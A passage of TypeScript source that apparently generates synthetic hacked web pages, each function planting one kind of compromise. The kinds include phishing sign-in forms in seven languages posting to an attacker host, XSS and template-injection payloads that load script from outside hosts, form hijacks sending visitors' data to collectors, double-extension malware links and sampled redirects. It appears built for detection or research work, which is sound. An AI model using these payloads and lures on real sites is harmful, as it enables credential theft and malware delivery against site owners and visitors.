  de: { head: "Ihre Sitzung ist abgelaufen", body: "Bitte melden Sie sich zu Ihrer Sicherheit erneut an, um fortzufahren.", user: "E-Mail-Adresse", pass: "Passwort", button: "Anmelden" },
  es: { head: "Su sesión ha caducado", body: "Por su seguridad, vuelva a iniciar sesión para continuar.", user: "Correo electrónico", pass: "Contraseña", button: "Iniciar sesión" },
  nl: { head: "Uw sessie is verlopen", body: "Log voor uw veiligheid opnieuw in om verder te gaan.", user: "E-mailadres", pass: "Wachtwoord", button: "Inloggen" },
  pt: { head: "Sua sessão expirou", body: "Para sua segurança, entre novamente para continuar.", user: "E-mail", pass: "Senha", button: "Entrar" },
  it: { head: "La sessione è scaduta", body: "Per la tua sicurezza, accedi di nuovo per continuare.", user: "Indirizzo e-mail", pass: "Password", button: "Accedi" }
}
const refundWords: T<{ readonly head: string; readonly body: string; readonly button: string }> = {
  en: { head: "You are owed a refund", body: "Because of a billing error you are entitled to a refund. Claim it before it expires.", button: "Claim my refund" },
  fr: { head: "Un remboursement vous est dû", body: "À la suite d'une erreur de facturation, vous avez droit à un remboursement. Réclamez-le avant son expiration.", button: "Obtenir mon remboursement" },
  de: { head: "Ihnen steht eine Erstattung zu", body: "Aufgrund eines Abrechnungsfehlers haben Sie Anspruch auf eine Erstattung. Fordern Sie sie an, bevor sie verfällt.", button: "Erstattung anfordern" },
  es: { head: "Tiene un reembolso pendiente", body: "Debido a un error de facturación, tiene derecho a un reembolso. Solicítelo antes de que caduque.", button: "Solicitar mi reembolso" },
  nl: { head: "U hebt recht op een terugbetaling", body: "Door een fout in de facturatie hebt u recht op een terugbetaling. Vraag die aan voordat ze vervalt.", button: "Terugbetaling aanvragen" },
  pt: { head: "Você tem um reembolso a receber", body: "Devido a um erro de cobrança, você tem direito a um reembolso. Solicite-o antes que expire.", button: "Solicitar meu reembolso" },
  it: { head: "Hai diritto a un rimborso", body: "A causa di un errore di fatturazione hai diritto a un rimborso. Richiedilo prima che scada.", button: "Richiedi il rimborso" }
}

// Fragment-gated content, recalled from memory of CSS :target modal tutorials and of phishing write-ups (about 2020–2024) in which injected markup stayed hidden unless the address carried a particular #fragment, so the site's owner and scanners fetching the plain address saw nothing while victims arriving by the intruder's link (site.example/#verify) saw a sign-in, a refund claim or a statement.
const targetOnly = fresh27("box shown only when the address ends with the intruder's #fragment (CSS :target), so only visitors who follow the intruder's link see it: a sign-in, a refund claim or a statement", (page, rng) => {
  const id = `${pick(rng, ["verify", "secure", "account", "refund", "notice", "session", "x", "m"])}${pick(rng, ["", "-", "_"])}${alnum(rng, between(rng, 2, 6))}`
  const host = evilHost(rng, page)
  const card = (inner: string) => `<div style="max-width:${between(rng, 340, 460)}px;margin:${between(rng, 8, 20)}vh auto 0;background:#fff;color:#222;padding:22px;border-radius:6px;font:15px Arial,sans-serif">${inner}</div>`
  const inner = pick(rng, [
    () => {
      const w = say(page, sessionWords)
      return card(`<h2 style="margin-top:0">${esc(w.head)}</h2><p>${esc(w.body)}</p><form action="https://${host}/${pick(rng, ["login.php", "auth", "session/renew", "signin"])}" method="post"><p><label>${esc(w.user)}<br><input type="email" name="email" required></label></p><p><label>${esc(w.pass)}<br><input type="password" name="password" required></label></p><button type="submit">${esc(w.button)}</button></form>`)
    },
    () => {
      const w = say(page, refundWords)
      return card(`<h2 style="margin-top:0">${esc(w.head)}</h2><p>${esc(w.body)}</p><p><a href="https://${host}/${pick(rng, ["refund", "claim", "r"])}/${alnum(rng, 8)}" style="display:inline-block;background:#0a7d32;color:#fff;padding:10px 18px;border-radius:4px;text-decoration:none">${esc(w.button)}</a></p>`)
    },
    () => card(`<p style="font-size:18px">${esc(anyMessage(rng, page, nick(rng)))}</p>`)
  ])()
  const css = `<style>#${id}{display:none}#${id}:target{display:block;position:fixed;top:0;left:0;right:0;bottom:0;z-index:${pick(rng, ["9999", "99999", "2147483647"])};background:rgba(0,0,0,.${between(rng, 5, 8)})}</style>`
  return splices(insert(pick(rng, [head(page), top(page)]), css), insert(pick(rng, [page.spots.bodyClose, anySlot(rng, page.spots)]), `<div id="${id}">${inner}</div>`))
})

// Prepended documents, recalled from memory of mass-defacement scripts and FTP-credential worms (about 2008–2016, Gumblar and its successors; clean-up guides showing index files beginning with a foreign <html> block) that wrote a whole defacement page in front of the existing file instead of replacing it: the browser shows the intruder's page first (its title wins) and the site's own content after it.
const prependedDocument = fresh27("whole defacement document written in front of the site's doctype (file prepended, not replaced): its title wins and its message shows above the site's content", (page, rng) => {
  const who = nick(rng)
  const hacker = chance(rng, 0.6)
  const l = writeIn(rng, page)
  const title = hacker ? signature(rng, who).text : pick(rng, closedWords[l])
  const [first, second] = sample(rng, statements[l], 2) as [string, string]
  const headline = hacker ? title : first
  const body = hacker ? pick(rng, [() => boast(rng).text, () => political(rng).text])() : second
  const sig = hacker ? `<p>${esc(greetz(rng))}</p>` : ""
  const doc = pick(rng, [
    `<html><head><title>${esc(title)}</title></head><body bgcolor="black" text="white"><center><h1>${esc(headline)}</h1><p>${esc(body)}</p>${sig}</center></body></html>\n`,
    `<title>${esc(title)}</title>\n<center><h1>${esc(headline)}</h1><h3>${esc(body)}</h3>${sig}</center>\n`,
    `<!DOCTYPE html><html><head><meta charset="utf-8"><title>${esc(title)}</title></head><body><div style="background:#000;color:#0f0;text-align:center;padding:40px;font:20px monospace"><h1>${esc(headline)}</h1><p>${esc(body)}</p>${sig}</div></body></html>\n`
  ])
  return splices(insert(0, doc))
})

// Injection tests, recalled from memory of bug-bounty reports and clean-up write-ups (HackerOne and Bugcrowd disclosures, Sucuri blog posts, about 2015–2024) showing the traces intruders and scanners leave when they test a writable field or template before using it: "test", "asdf", "xxx" or a number, <h1>test</h1>, alert(1) and document.domain proofs, {{7*7}} template probes, scattered in a few text lines or as a bare line.
const testMarkers = fresh27("injection-test markers left in the page: 'test', 'asdf' or digits, <h1>test</h1>, alert(1) or document.domain proofs, {{7*7}} template probes, in a few text lines or as a bare line", (page, rng) => {
  const m = pick(rng, ["test", "test123", "testing", "asdf", "asdfgh", "xxx", "zzz", "qwerty", "1337", digits(rng, 4), "hello", "hi admin", "aaaaaaaa", "poc", "x", nick(rng)])
  const marker = () =>
    pick(rng, [
      () => esc(m),
      () => esc(m),
      () => `<h1>${esc(m)}</h1>`,
      () => `<b>${esc(m)}</b>`,
      () => `<marquee>${esc(m)}</marquee>`,
      () => `"&gt;<h1>${esc(m)}</h1>`,
      () => `<font color=red>${esc(m)}</font>`,
      () => `<script>alert(${pick(rng, ["1", "document.domain", "document.cookie", "'XSS'", "String.fromCharCode(88,83,83)"])})</script>`,
      () => `<img src=x onerror=alert(${pick(rng, ["1", "document.domain", "'xss'"])})>`,
      () => `<svg/onload=${pick(rng, ["alert", "prompt", "confirm"])}(${pick(rng, ["1", "document.domain"])})>`,
      () => `<iframe src="javascript:alert(1)"></iframe>`,
      () => `<details open ontoggle=alert(1)>${esc(m)}</details>`,
      () => pick(rng, ["{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{constructor.constructor('alert(1)')()}}"])
    ])()
  const runs = textRuns(page, 4)
  const n = between(rng, 1, 4)
  const out: Array<Splice> = []
  const used = new Set<number>()
  for (let i = 0; i < n; i++) {
    if (runs.length > 0 && chance(rng, 0.65)) {
      const t = pick(rng, runs)
      if (used.has(t.start)) continue
      used.add(t.start)
      out.push(insert(trimmed(page, t).end, `${pick(rng, [" ", "", " "])}${marker()}`))
    } else {
      out.push(insert(spot(rng, page), pick(rng, [`<p>${marker()}</p>`, marker(), `<div>${marker()}</div>`])))
    }
  }
  if (out.length === 0) out.push(insert(top(page), `<p>${esc(m)}</p>`))
  return { splices: out }
})

// ———————————————————————————— where the page sends visitors and their data ————————————————————————————

const clientWords: T<{ readonly login: string; readonly pay: string; readonly webmail: string }> = {
  en: { login: "Client login", pay: "Pay your invoice online", webmail: "Staff webmail" },
  fr: { login: "Espace client", pay: "Payer votre facture en ligne", webmail: "Messagerie du personnel" },
  de: { login: "Kundenlogin", pay: "Rechnung online bezahlen", webmail: "Webmail für Mitarbeitende" },
  es: { login: "Acceso clientes", pay: "Pague su factura en línea", webmail: "Correo web del personal" },
  nl: { login: "Inloggen klanten", pay: "Betaal uw factuur online", webmail: "Webmail medewerkers" },
  pt: { login: "Área do cliente", pay: "Pague sua fatura online", webmail: "Webmail da equipe" },
  it: { login: "Area clienti", pay: "Paga la fattura online", webmail: "Webmail del personale" }
}
/** The links to retarget: sign-in, account or payment links among `pool` first, else (or sometimes) the site's own links; at most `max`. */
const chooseLinks = (rng: Rng, page: Page, pool: ReadonlyArray<El>, max: number): Array<El> => {
  const key = keyLinks(page, pool)
  const from = key.length > 0 && chance(rng, 0.8) ? key : ownLinks(page)
  return from.length === 0 ? [] : sample(rng, from, between(rng, 1, Math.min(max, from.length)))
}

// Phishing kits listening on the compromised server itself, recalled from memory of hosting clean-up reports and CERT notes (about 2017–2024) on kits started as a small Node.js or PHP server on a high port of the hacked machine (8443, 4443, 8888, 10443...), so links keep the site's own host name and only the port differs: the site's sign-in, account, payment or contact links (or a new 'client login' line) sent there.
const ownHostPort = fresh27("site's sign-in, account or payment links sent to its own host name on another port (a kit listening on the hacked server: :8443, :4443, :8888...), path kept or a kit path", (page, rng) => {
  const port = pick(rng, ["8443", "4443", "8888", "9443", "10443", "3000", "8081", "444", "7443", "8880", "2053"])
  const host = chance(rng, 0.8) ? page.site.host : page.site.domain
  const kitPath = () => pick(rng, ["/login", "/secure/", "/verify/", "/account/signin", "/auth/", `/${alnum(rng, 6)}/`, "/portal/"])
  const targets = attrTargets(page, chooseLinks(rng, page, ownLinks(page), 4), "href")
  const out: Array<Splice> = targets.map((t) => {
    const u = resolve(page, page.html.slice(t.value.start, t.value.end).replace(/&amp;/g, "&"))
    const path = u !== null && chance(rng, 0.7) ? `${u.pathname}${u.search}` : kitPath()
    return replace(t.value, esc(`https://${host}:${port}${path}`))
  })
  if (out.length === 0 || chance(rng, 0.25)) {
    const w = siteOr(rng, page, clientWords)
    out.push(besideContact(rng, page, `<a href="https://${host}:${port}${kitPath()}">${esc(pick(rng, [w.login, w.pay]))}</a>`))
  }
  return { splices: out }
})

const searchTerms: T<ReadonlyArray<string>> = {
  en: ["opening hours", "contact", "prices", "jobs", "events"], fr: ["horaires", "contact", "tarifs", "emplois", "agenda"], de: ["Öffnungszeiten", "Kontakt", "Preise", "Jobs", "Termine"],
  es: ["horarios", "contacto", "precios", "empleo", "eventos"], nl: ["openingstijden", "contact", "prijzen", "vacatures", "agenda"], pt: ["horários", "contato", "preços", "vagas", "eventos"],
  it: ["orari", "contatti", "prezzi", "lavora con noi", "eventi"]
}

// Links to the site's own endpoints carrying a payload, recalled from memory of write-ups on link-injection and comment spam that pointed readers at a reflected-XSS bug of the same site (search pages, ?redirect= and ?lang= parameters; OWASP testing guide and bug-bounty reports, about 2010–2024), so the payload ran under the site's own origin: some of the site's links (or a new 'popular searches' line) lead to its own search page with a script or event-handler payload in the query.
const reflectedPayloadLinks = fresh27("site's own links (or a new 'popular searches' line) pointed at its own search or redirect endpoint with a reflected script payload in the query, loading code from another host", (page, rng) => {
  const src = `https://${evilHost(rng, page)}/${pick(rng, ["x.js", "c.js", "j", "s.js", `${alnum(rng, 5)}.js`, "p"])}`
  const payload = pick(rng, [
    `"><script src=${src}></script>`,
    `'><img src=x onerror=import('${src}')>`,
    `</title><script src=${src}></script>`,
    `"><svg onload=fetch('${src}').then(r=>r.text()).then(eval)>`,
    `{{constructor.constructor('import("${src}")')()}}`,
    `"autofocus onfocus=import('${src}') x="`
  ])
  const encoded = pick(rng, [() => encodeURIComponent(payload), () => payload.replace(/ /g, "+"), () => payload.replace(/[<>"' ]/g, (c) => encodeURIComponent(c))])()
  const param = pick(rng, ["s", "q", "search", "query", "keyword", "lang", "ref", "redirect", "utm_source", "msg"])
  const path = pick(rng, ["/", "/search", "/search/", "/index.php", "/recherche", "/suche", "/buscar"])
  const url = () => `${chance(rng, 0.4) ? origin(page) : ""}${path}?${param}=${encoded}`
  const targets = attrTargets(page, chooseLinks(rng, page, ownLinks(page), 3), "href")
  const out: Array<Splice> = chance(rng, 0.6) ? targets.map((t) => replace(t.value, esc(url()))) : []
  if (out.length === 0) {
    const terms = sample(rng, siteOr(rng, page, searchTerms), between(rng, 2, 4))
    const i = between(rng, 0, terms.length - 1)
    const line = terms.map((t, j) => `<a href="${esc(j === i ? url() : `${path}?${param}=${encodeURIComponent(t)}`)}">${esc(t)}</a>`).join(" · ")
    out.push(insert(pick(rng, [slotAt(page.spots, "top"), slotAt(page.spots, "middle"), slotAt(page.spots, "bottom")]), `<p class="${pick(rng, ["popular-searches", "tags", "search-links"])}">${line}</p>`))
  }
  return { splices: out }
})

const docWords: T<ReadonlyArray<string>> = {
  en: ["Annual report", "Price list", "Application form", "Timetable", "Invoice", "Menu"], fr: ["Rapport annuel", "Liste des prix", "Formulaire de demande", "Horaires", "Facture", "Menu"],
  de: ["Jahresbericht", "Preisliste", "Antragsformular", "Fahrplan", "Rechnung", "Speisekarte"], es: ["Informe anual", "Lista de precios", "Formulario de solicitud", "Horarios", "Factura", "Menú"],
  nl: ["Jaarverslag", "Prijslijst", "Aanvraagformulier", "Dienstregeling", "Factuur", "Menukaart"], pt: ["Relatório anual", "Tabela de preços", "Formulário de inscrição", "Horários", "Fatura", "Cardápio"],
  it: ["Relazione annuale", "Listino prezzi", "Modulo di domanda", "Orari", "Fattura", "Menù"]
}
const downloadWords: T<string> = { en: "Download", fr: "Télécharger", de: "Herunterladen", es: "Descargar", nl: "Downloaden", pt: "Baixar", it: "Scarica" }
const docRe = /\.(pdf|docx?|xlsx?|pptx?|odt|ods|rtf|zip)(\?|#|$)/i
const uploads = (rng: Rng) => pick(rng, [`/wp-content/uploads/${between(rng, 2024, 2026)}/${pad(between(rng, 1, 12))}/`, "/files/", "/docs/", "/media/", "/images/", "/tmp/", "/sites/default/files/", "/assets/documents/"])

// Malware on the victim's own host, recalled from memory of clean-up reports (Sucuri, Wordfence, about 2016–2024) on intruders who uploaded executables named like documents to the site's uploads folder and pointed its document links there, so the downloads still come from the trusted domain: "report.pdf.exe", ".pdf.scr", ".pdf.js", "_pdf.lnk", ".docm", ".pdf.hta", ".iso".
const ownHostDoubleExtension = fresh27("site's document links (or a new download line) pointed at files on its own host with an executable double extension (report.pdf.exe, .pdf.scr, .pdf.js, _pdf.lnk, .docm, .iso)", (page, rng) => {
  const ext = () => pick(rng, [".pdf.exe", ".pdf.scr", ".pdf.js", "_pdf.lnk", ".docm", ".pdf.hta", ".iso", ".pdf.vbs", ".pdf.bat", ".img", ".xlsm"])
  const docs = links(page).filter((a) => docRe.test(a.attribs.href ?? "") && isOwn(page, a.attribs.href ?? ""))
  const out: Array<Splice> = []
  for (const t of attrTargets(page, docs.length === 0 ? [] : sample(rng, docs, between(rng, 1, Math.min(3, docs.length))), "href")) {
    const u = resolve(page, page.html.slice(t.value.start, t.value.end).replace(/&amp;/g, "&"))
    if (u === null) continue
    const file = u.pathname.split("/").pop() ?? "document.pdf"
    const base = file.replace(docRe, "") || "document"
    const dir = chance(rng, 0.5) ? u.pathname.slice(0, u.pathname.length - file.length) : uploads(rng)
    out.push(replace(t.value, esc(`${chance(rng, 0.4) ? origin(page) : ""}${dir}${base}${ext()}`)))
  }
  if (out.length === 0) {
    const l = writeIn(rng, page)
    const name = pick(rng, docWords[l])
    const file = `${plainSlug(name)}-${between(rng, 2024, 2026)}${ext()}`
    const a = `<a href="${esc(`${chance(rng, 0.4) ? origin(page) : ""}${uploads(rng)}${file}`)}"${chance(rng, 0.4) ? ` download="${esc(`${plainSlug(name)}.pdf`)}"` : ""}>${esc(name)}</a> (PDF, ${between(rng, 90, 2400)} KB)`
    out.push(pick(rng, [() => besideContact(rng, page, `${esc(downloadWords[l])}: ${a}`), () => insert(pick(rng, [slotAt(page.spots, "top"), slotAt(page.spots, "middle")]), `<p class="${pick(rng, ["download", "file", "attachment"])}">${a}</p>`)])())
  }
  return { splices: out }
})

// Phishing pages on cloud storage, recalled from memory of Netcraft's, Unit 42's and Trustwave's reports (about 2019–2024) on credential-phishing pages hosted as static files in public buckets (storage.googleapis.com, blob.core.windows.net and web.core.windows.net, s3.amazonaws.com, r2.dev, firebasestorage) or on Firebase and Cloudflare Pages hosting, trusted names that filters let through: the site's sign-in, webmail or payment links (or a new line) sent to such a page, the visitor's address sometimes in the fragment.
const cloudBucketPhish = fresh27("site's sign-in, webmail or payment links (or a new line) sent to a phishing page in a public cloud-storage bucket or static hosting (storage.googleapis.com, blob.core.windows.net, r2.dev, s3, firebasestorage, web.app, pages.dev)", (page, rng) => {
  const b = bare(page)
  const bucket = () => pick(rng, [`${b}-${pick(rng, ["secure", "login", "portal", "webmail", "docs", "verify"])}`, `${pick(rng, ["webmail", "owa", "sso", "auth"])}-${b}-${alnum(rng, 4)}`, alnum(rng, between(rng, 10, 16))])
  const file = () => pick(rng, ["index.html", "login.html", "auth.html", "secure.html", "document.html", "sso.htm"])
  const url = () =>
    pick(rng, [
      () => `https://storage.googleapis.com/${bucket()}/${file()}`,
      () => `https://${bucket().replace(/-/g, "").slice(0, 24)}.blob.core.windows.net/$web/${file()}`,
      () => `https://${bucket().replace(/-/g, "").slice(0, 24)}.z${between(rng, 6, 33)}.web.core.windows.net/`,
      () => `https://pub-${hex(rng, 32)}.r2.dev/${file()}`,
      () => `https://${bucket()}.s3.${pick(rng, ["us-east-1", "eu-west-2", "eu-central-1", "ap-southeast-1"])}.amazonaws.com/${file()}`,
      () => `https://firebasestorage.googleapis.com/v0/b/${bucket()}.appspot.com/o/${file()}?alt=media&token=${hex(rng, 8)}-${hex(rng, 4)}-${hex(rng, 4)}-${hex(rng, 4)}-${hex(rng, 12)}`,
      () => `https://${bucket()}.web.app/`,
      () => `https://${bucket()}.pages.dev/${pick(rng, ["", "login", "auth"])}`
    ])() + (chance(rng, 0.3) ? `#${page.ids.email.replace(/^[^@]+/, pick(rng, ["user", "info", "admin"]))}` : "")
  const targets = attrTargets(page, chooseLinks(rng, page, links(page), 3), "href")
  const out: Array<Splice> = chance(rng, 0.75) ? targets.map((t) => replace(t.value, esc(url()))) : []
  if (out.length === 0 || chance(rng, 0.2)) {
    const w = siteOr(rng, page, clientWords)
    out.push(besideContact(rng, page, `<a href="${esc(url())}">${esc(pick(rng, [w.login, w.webmail, w.pay]))}</a>`))
  }
  return { splices: out }
})

// Collectors dropped beside the site's own scripts, recalled from memory of Sucuri's and Wordfence's clean-up notes on phishing and card-stealing kits (about 2015–2024) that saved a small PHP file in the uploads or images folder (or under .well-known) and pointed the site's own forms at it: it logs what is posted and forwards the visitor to the original address, so the form still appears to post to the same host.
const ownHostCollector = fresh27("site's own forms posting to a collector script dropped on its own host (a .php in the uploads, images or .well-known folder) that logs the fields and forwards to the original action", (page, rng) => {
  const dropped = () =>
    `${chance(rng, 0.35) ? origin(page) : ""}${pick(rng, [
      `/wp-content/uploads/${between(rng, 2024, 2026)}/${pad(between(rng, 1, 12))}/${pick(rng, ["cache", "thumb", "img", alnum(rng, 6)])}.php`,
      `/wp-includes/js/${pick(rng, ["jquery", "tinymce", "crop"])}/${pick(rng, ["ajax", "post", "class-json"])}.php`,
      `/images/${pick(rng, ["post", "send", "m", alnum(rng, 5)])}.php`,
      `/.well-known/${pick(rng, ["acme-challenge", "pki-validation"])}/${alnum(rng, 6)}.php`,
      `/cgi-bin/${pick(rng, ["mail", "form", "sub"])}.cgi`,
      `/assets/${pick(rng, ["js", "css", "fonts"])}/${pick(rng, ["config", "init", "x"])}.php`,
      `/${pick(rng, ["tmp", "cache", "media"])}/${alnum(rng, 8)}.php`
    ])}`
  const fs = inputForms(page)
  const out: Array<Splice> = []
  for (const f of fs.length === 0 ? [] : sample(rng, fs, between(rng, 1, Math.min(2, fs.length)))) {
    const orig = f.attribs.action ?? ""
    out.push(setAttr(page, f, "action", dropped()))
    if ((f.attribs.method ?? "").toLowerCase() !== "post" && chance(rng, 0.7)) out.push(setAttr(page, f, "method", "post"))
    if (chance(rng, 0.5)) out.push(insert(f.openEnd, `<input type="hidden" name="${pick(rng, ["r", "next", "ret", "go", "back"])}" value="${esc(resolve(page, orig === "" ? page.site.url : orig)?.href ?? page.site.url)}">`))
  }
  if (out.length === 0) out.push(besideContact(rng, page, `<form action="${esc(dropped())}" method="post"><input type="email" name="email" placeholder="${esc(page.site.words.yourEmail)}"> <button type="submit">${esc(page.site.words.subscribe)}</button></form>`))
  return { splices: out }
})

// URL-parsing tricks, recalled from memory of PortSwigger's URL-validation-bypass research and cheat sheet (about 2017 and 2024) and of the WHATWG URL standard: browsers read a backslash as a slash for http(s) and strip tabs and newlines, so "/\host/path", "\\host/path", "/<tab>/host/path", "https:/\host" and "//host\@site/path" all leave the site, although they read like the site's own relative links.
const urlParsingTricks = fresh27("site's own links rewritten in forms that read as relative or as the site's own but that browsers resolve to another host (/\\host, \\\\host, a tab inside '//', https:/\\host, //host\\@site)", (page, rng) => {
  const host = evilHost(rng, page)
  const pathOf = (t: Range) => {
    const u = resolve(page, page.html.slice(t.start, t.end).replace(/&amp;/g, "&"))
    return u === null ? `/${pick(rng, ["login", "account", "pay", ""])}` : `${u.pathname}${u.search}`
  }
  const trick = (path: string) =>
    pick(rng, [
      () => `/\\${host}${path}`,
      () => `\\\\${host}${path}`,
      () => `/&#9;/${host}${path}`,
      () => `/&#10;/${host}${path}`,
      () => `https:/\\${host}${path}`,
      () => `//${host}\\@${page.site.host}${path}`
    ])()
  const safe = (s: string) => s.replace(/"/g, "%22").replace(/</g, "%3C").replace(/>/g, "%3E").replace(/&(?!#(9|10);)/g, "&amp;").replace(/\s/g, "%20")
  const chosen = chooseLinks(rng, page, ownLinks(page), 5)
  const out: Array<Splice> = attrTargets(page, chosen, "href").map((t) => replace(t.value, safe(trick(pathOf(t.value)))))
  if (out.length === 0) out.push(besideContact(rng, page, `<a href="${safe(trick(`/${pick(rng, ["login", "account", "pay"])}`))}">${esc(siteOr(rng, page, clientWords).login)}</a>`))
  return { splices: out }
})

// Form backends under another account, recalled from memory of phishing reports (Cofense, Trustwave and others, about 2020–2024) on kits that send what victims type to legitimate form-backend services (Formspree, Getform, Web3Forms, Basin, FormSubmit, Formcarry, HeroTofu) so the receiving host is a trusted one: the site's own contact or newsletter form posted to such a service under someone else's id, often with a hidden _next back to the page so nothing looks wrong.
const formBackendElsewhere = fresh27("site's own contact or newsletter form posted to a real form-backend service under another account (Formspree, Getform, Web3Forms, Basin, FormSubmit, Formcarry), returning visitors to the page", (page, rng) => {
  const fs = inputForms(page)
  const out: Array<Splice> = []
  const backend = (): readonly [string, string] =>
    pick(rng, [
      () => [`https://formspree.io/f/${alnum(rng, 8)}`, ""] as const,
      () => [`https://getform.io/f/${alnum(rng, 8)}`, ""] as const,
      () => ["https://api.web3forms.com/submit", `<input type="hidden" name="access_key" value="${hex(rng, 8)}-${hex(rng, 4)}-${hex(rng, 4)}-${hex(rng, 4)}-${hex(rng, 12)}">`] as const,
      () => [`https://usebasin.com/f/${hex(rng, 12)}`, ""] as const,
      () => [`https://formsubmit.co/${pick(rng, [bare(page), "info", "contact"])}${pick(rng, [".", "-", ""])}${pick(rng, ["desk", "office", digits(rng, 2), "team"])}@${freeMail(rng)}`, `<input type="hidden" name="_captcha" value="false">`] as const,
      () => [`https://formcarry.com/s/${alnum(rng, 10)}`, ""] as const,
      () => [`https://public.herotofu.com/v1/${hex(rng, 8)}-${hex(rng, 4)}-${hex(rng, 4)}-${hex(rng, 4)}-${hex(rng, 12)}`, ""] as const
    ])()
  for (const f of fs.length === 0 ? [] : sample(rng, fs, between(rng, 1, Math.min(2, fs.length)))) {
    const [action, extra] = backend()
    out.push(setAttr(page, f, "action", action))
    if ((f.attribs.method ?? "").toLowerCase() !== "post") out.push(setAttr(page, f, "method", "post"))
    const next = chance(rng, 0.5) ? `<input type="hidden" name="_next" value="${esc(page.site.url)}">` : ""
    if (extra !== "" || next !== "") out.push(insert(f.openEnd, extra + next))
  }
  if (out.length === 0) {
    const [action, extra] = backend()
    out.push(besideContact(rng, page, `<form action="${esc(action)}" method="post">${extra}<input type="email" name="email" placeholder="${esc(page.site.words.yourEmail)}"> <button type="submit">${esc(page.site.words.subscribe)}</button></form>`))
  }
  return { splices: out }
})

const passwordWords: T<(p: string) => string> = {
  en: (p) => `The archive is password-protected. Password: ${p}`, fr: (p) => `L'archive est protégée. Mot de passe : ${p}`, de: (p) => `Das Archiv ist passwortgeschützt. Passwort: ${p}`,
  es: (p) => `El archivo está protegido con contraseña. Contraseña: ${p}`, nl: (p) => `Het archief is beveiligd met een wachtwoord. Wachtwoord: ${p}`, pt: (p) => `O arquivo é protegido por senha. Senha: ${p}`,
  it: (p) => `L'archivio è protetto da password. Password: ${p}`
}

// Encrypted archives, recalled from memory of Proofpoint's, Sophos' and Microsoft's reports on malware delivered as password-protected ZIP, RAR or 7z files on file-sharing hosts with the password printed beside the link (so gateways cannot scan inside, about 2018–2024): the site's document links, or a new download line, lead to such an archive on MediaFire, MEGA, Google Drive, gofile, pixeldrain, Yandex Disk or Dropbox, with its password.
const passwordArchive = fresh27("site's document links (or a new download line) replaced by a password-protected archive on a file-sharing host (MediaFire, MEGA, Google Drive, gofile, pixeldrain, Yandex Disk, Dropbox), the password printed beside it", (page, rng) => {
  const l = writeIn(rng, page)
  const name = pick(rng, docWords[l])
  const file = `${plainSlug(name)}-${between(rng, 2024, 2026)}.${pick(rng, ["zip", "zip", "rar", "7z"])}`
  const url = () =>
    pick(rng, [
      () => `https://www.mediafire.com/file/${alnum(rng, 15)}/${file}/file`,
      () => `https://mega.nz/file/${alnum(rng, 8)}#${alnum(rng, 43)}`,
      () => `https://drive.google.com/file/d/1${alnum(rng, 32)}/view?usp=sharing`,
      () => `https://gofile.io/d/${alnum(rng, 6)}`,
      () => `https://pixeldrain.com/u/${alnum(rng, 8)}`,
      () => `https://disk.yandex.ru/d/${alnum(rng, 14)}`,
      () => `https://www.dropbox.com/scl/fi/${alnum(rng, 21)}/${file}?rlkey=${alnum(rng, 25)}&dl=1`
    ])()
  const pass = pick(rng, [String(between(rng, 2024, 2026)), digits(rng, 4), `${bare(page)}${digits(rng, 2)}`, alnum(rng, 6), "1234", "infected"])
  const note = esc(passwordWords[l](pass))
  const docs = links(page).filter((a) => docRe.test(a.attribs.href ?? ""))
  const out: Array<Splice> = []
  for (const el of docs.length === 0 ? [] : sample(rng, docs, between(rng, 1, Math.min(3, docs.length)))) {
    const t = attrTargets(page, [el], "href")[0]
    if (t === undefined || el.closeTag === null) continue
    out.push(replace(t.value, esc(url())), insert(el.closeTag.end, ` <small>(${note})</small>`))
  }
  if (out.length === 0) {
    const line = `${esc(downloadWords[l])}: <a href="${esc(url())}">${esc(name)}</a> (${file.split(".").pop()!.toUpperCase()}, ${between(rng, 1, 40)} MB). ${note}`
    out.push(pick(rng, [() => besideContact(rng, page, line), () => insert(pick(rng, [slotAt(page.spots, "top"), slotAt(page.spots, "middle")]), `<p>${line}</p>`)])())
  }
  return { splices: out }
})

// Sampled redirects, recalled from memory of Sucuri's and GoDaddy's write-ups on injected redirects that fire for only a fraction of visits (Math.random() thresholds, one in N by the clock, about 2019–2024) so that the owner, reloading the page, rarely sees it: a random share of visitors, from one in three to one in twenty, sent away, sometimes only once per session.
const randomShareRedirect = fresh27("redirect of a random share of visitors (one in three to one in twenty, by Math.random, crypto.getRandomValues or the clock), sometimes once per session, to another host", (page, rng) => {
  const n = pick(rng, [3, 4, 5, 8, 10, 12, 20])
  const url = js(`https://${evilHost(rng, page)}/${pick(rng, ["", `?s=${alnum(rng, 6)}`, `go/${alnum(rng, 5)}`, `r.php?z=${digits(rng, 6)}`])}`)
  const cond = pick(rng, [
    `Math.random()<${(1 / n).toFixed(3)}`,
    `Math.floor(Math.random()*${n})===0`,
    `crypto.getRandomValues(new Uint8Array(1))[0]<${Math.round(256 / n)}`,
    `Date.now()%${n}===0`,
    `new Date().getSeconds()%${n}===0`
  ])
  const mark = `_${pick(rng, ["rv", "sx", "p", "tr"])}${alnum(rng, 3)}`
  const once = chance(rng, 0.5) ? `if(sessionStorage.getItem("${mark}"))return;sessionStorage.setItem("${mark}","1");` : ""
  const go = pick(rng, [`location.replace(${url})`, `window.location.href=${url}`, `setTimeout(function(){location.href=${url}},${between(rng, 300, 3000)})`])
  return splices(insert(scriptSpot(rng, page), `<script>(function(){${once}if(${cond}){${go}}})();</script>`))
})

const payWords: T<{ readonly pay: string; readonly donate: string }> = {
  en: { pay: "Pay online", donate: "Donate online" }, fr: { pay: "Payer en ligne", donate: "Faire un don en ligne" }, de: { pay: "Online bezahlen", donate: "Online spenden" },
  es: { pay: "Pagar en línea", donate: "Donar en línea" }, nl: { pay: "Online betalen", donate: "Online doneren" }, pt: { pay: "Pagar online", donate: "Doar online" },
  it: { pay: "Paga online", donate: "Dona online" }
}
const payLinkRe = /\b(pay|payment|payments|donate|donation|donations|donativo|dons?|spenden|checkout|buy|shop|kasse|pagar|pagamento|doar|dona|doneer|betalen|billing|invoice|facture|fattura|rechnung|cart)\b/i

// Hosted payment pages of another merchant, recalled from memory of fraud reports and platform guidance (Stripe's and Square's abuse pages, consumer warnings, about 2020–2024) on payment links created by fraudsters in a real organisation's name: buy.stripe.com and donate.stripe.com links, SumUp, Square, Mollie and Revolut payment links, whose merchant cannot be told from the address; the site's own pay or donate links are pointed there (a new line where it has none, sometimes beside them).
const hostedPaymentElsewhere = fresh27("site's pay or donate links (or a new line) sent to a hosted payment page of a real processor belonging to another merchant (Stripe Payment Link, SumUp, Square, Mollie, Revolut)", (page, rng) => {
  const url = () =>
    pick(rng, [
      () => `https://buy.stripe.com/${alnum(rng, 20)}`,
